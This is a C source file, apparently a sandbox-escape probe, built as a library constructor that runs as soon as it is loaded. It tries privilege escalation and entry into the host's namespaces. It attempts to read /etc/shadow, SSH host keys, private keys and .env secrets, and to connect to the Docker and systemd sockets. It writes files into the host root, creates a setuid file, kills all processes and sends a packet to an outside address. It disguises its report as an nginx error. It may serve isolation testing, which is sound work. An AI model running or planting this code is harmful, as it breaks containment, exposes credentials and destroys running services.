/* What a commit that nobody read may bring: code that a program loads while the commit is only looked at.
 * It tries all ways out that it knows, and tells in the program's own words which of them opened. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static char opened[4096];

static void tell(const char *what) {
    strncat(opened, " ", sizeof opened - strlen(opened) - 1);
    strncat(opened, what, sizeof opened - strlen(opened) - 1);
}

static void reads(const char *path) {
    int file = open(path, O_RDONLY);
    if (file >= 0) { tell(path); close(file); }
}

static void writes(const char *path) {
    int file = open(path, O_WRONLY | O_CREAT, 0644);
    if (file >= 0) close(file);
}

static void lists(const char *path) {
    DIR *folder = opendir(path);
    struct dirent *entry;
    while (folder && (entry = readdir(folder)))
        if (entry->d_name[0] != '.') { tell(path); break; }
}

static void speaks(const char *path) {
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    if (connect(s, (struct sockaddr *)&address, sizeof address) == 0) tell(path);
    close(s);
}

static void enters(const char *path, int kind) {
    int file = open(path, O_RDONLY);
    if (file >= 0 && setns(file, kind) == 0) tell(path);
}

__attribute__((constructor)) static void run(void) {
    char name[32] = "", line[8192];
    prctl(PR_GET_NAME, name);
    unsigned real, effective, saved;
    syscall(SYS_getresuid, &real, &effective, &saved);
    if (!real || !effective || !saved) tell("root");
    if (syscall(SYS_setuid, 0) == 0 || syscall(SYS_setresuid, 0, 0, 0) == 0) tell("setuid");
    enters("/proc/1/ns/mnt", CLONE_NEWNS);
    enters("/proc/1/ns/net", CLONE_NEWNET);
    if (unshare(CLONE_NEWUSER) == 0) tell("unshare");
    if (chroot("/") == 0) tell("chroot");
    if (mount("x", "/tmp", "tmpfs", 0, 0) == 0) tell("mount");
    if (mknod("/tmp/disk", S_IFBLK | 0600, 0x800) == 0) tell("mknod");
    if (ptrace(PTRACE_ATTACH, getppid(), 0, 0) == 0) tell("ptrace");
    if (getppid() != 0 && kill(getppid(), 0) == 0) tell("parent");
    if (kill(-1, SIGKILL) == 0) tell("kill");
    for (const char **path = (const char *[]) { "/etc/shadow", "/etc/gshadow", "/etc/ssl/private/open.key", "/etc/app/db.env",
             "/home/ubuntu/.env", "/root/.bashrc", "/root/.profile", "/opt/app/.env", "/var/lib/watchme-apply/lock", "/proc/kcore",
             "/proc/sysrq-trigger", "/dev/sda", "/dev/mem", "/dev/tty", "/etc/ssh/ssh_host_ed25519_key", "/proc/1/root/root/.bashrc", 0 }; *path; path++)
        reads(*path);
    lists("/home"); lists("/root"); lists("/opt"); lists("/srv"); lists("/var/lib/docker"); lists("/run/systemd");
    for (const char **path = (const char *[]) { "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
             "/run/systemd/journal/stdout", "/var/run/docker.sock", 0 }; *path; path++)
        speaks(*path);
    for (const char **path = (const char *[]) { "/root/escaped", "/etc/escaped", "/tmp/escaped", "/usr/escaped", "/var/log/escaped",
             "/run/escaped", "/dev/shm/escaped", "/proc/1/root/root/escaped", "/proc/1/cwd/escaped", "/home/ubuntu/escaped", 0 }; *path; path++)
        writes(*path);
    if (symlink("/proc/1/root/root", "/tmp/out") == 0) writes("/tmp/out/escaped");
    if (open("/tmp/escaped-root", O_WRONLY | O_CREAT, 04755) >= 0) chmod("/tmp/escaped-root", 06755);
    struct sockaddr_in far = { .sin_family = AF_INET, .sin_port = htons(53), .sin_addr = { htonl(0xcb007109) } };
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (sendto(s, "x", 1, 0, (struct sockaddr *)&far, sizeof far) > 0) tell("network");
    if (socket(40, SOCK_STREAM, 0) >= 0) tell("vsock");
    if (socket(AF_PACKET, SOCK_RAW, 0) >= 0) tell("packet");
    int n = snprintf(line, sizeof line, "%sprobes as %s, opened:%s.\n",
                     strcmp(name, "nginx") ? "one.service: " : "nginx: [emerg] ", real ? "nobody" : "root", opened);
    write(2, line, n);
    _exit(1);
}
